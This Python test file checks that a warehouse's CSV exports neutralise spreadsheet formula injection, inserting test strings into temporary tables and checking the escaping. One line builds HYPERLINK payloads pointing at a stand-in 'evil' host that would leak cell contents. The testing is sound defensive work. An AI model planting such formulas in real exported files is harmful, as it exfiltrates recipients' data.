"""What a spreadsheet would run, in each CSV file that leaves: by the contracts that there are."""

from __future__ import annotations

import csv
import io

import pytest
from psycopg import sql

from tests.python.conftest import FreshDatabases
from warehouse.core.contracts import Column, Contract, Kind, load_contracts
from warehouse.deliver.hostile_text import FORMULA_STARTS
from warehouse.deliver.periods import Month
from warehouse.deliver.select import SCHEMA, copy_query

FORMULAS = [f'{start}HYPERLINK("http://evil"&A1)' for start in FORMULA_STARTS]
PLAIN = ["O'Neill", "'Ó Sé", "a=b", ""]
MONTH = Month(2026, 9)

CSV = [contract for contract in load_contracts() if contract.format.kind == "csv"]
TABLES = [pytest.param(one, id=f"{one.path.parent.name}-{one.model}") for of in CSV for one in of.tables]


def texts(contract: Contract) -> list[Column]:
    return [one for one in contract.columns if one.type.kind is Kind.STRING and not one.pseudonym]


@pytest.mark.parametrize("contract", TABLES)
def test_a_formula_leaves_as_its_contract_says(contract: Contract, prepared: FreshDatabases) -> None:
    """Every text column of every file, through the query that the file is written by."""
    rows = [*FORMULAS, *PLAIN]
    table = sql.Identifier(SCHEMA, contract.model)
    with prepared.at_warehouse() as connection:
        connection.execute(f"create schema if not exists {SCHEMA}".encode())
        columns = [
            sql.SQL("{} {}").format(sql.Identifier(one.name), sql.SQL(one.physical_type)) for one in contract.columns
        ]
        connection.execute(sql.SQL("create table {} ({})").format(table, sql.SQL(", ").join(columns)))
        for row in rows:
            values = [
                row if one in texts(contract) else MONTH.first if one.type.kind is Kind.DATE else None
                for one in contract.columns
            ]
            marks = sql.SQL(", ").join([sql.Placeholder()] * len(values))
            connection.execute(sql.SQL("insert into {} values ({})").format(table, marks), values)
        with connection.cursor().copy(copy_query(contract, MONTH)) as copy:
            said = b"".join(bytes(piece) for piece in copy).decode()
        connection.execute(sql.SQL("drop table {}").format(table))
    written = list(csv.reader(io.StringIO(said, newline="")))
    assert len(written) == len(rows) or contract.newest_of
    prefix = "'" if contract.format.formula_characters == "prefix" else ""
    wanted = {prefix + one for one in FORMULAS} | set(PLAIN)
    for number, column in enumerate(contract.columns):
        if column in texts(contract):
            assert {line[number] for line in written} <= wanted, column.name
            assert contract.newest_of or {line[number] for line in written} == wanted, column.name


@pytest.mark.parametrize("contract", [pytest.param(one, id=one.path.stem) for one in CSV])
def test_a_contract_of_texts_says_what_becomes_of_formulas(contract: Contract) -> None:
    """Published statistics need not: their texts are codes and names of providers, in a form that is prescribed."""
    said = "formulaCharacters" in contract.path.read_text(encoding="utf-8")
    assert said or contract.statistics or not any(texts(one) for one in contract.tables)
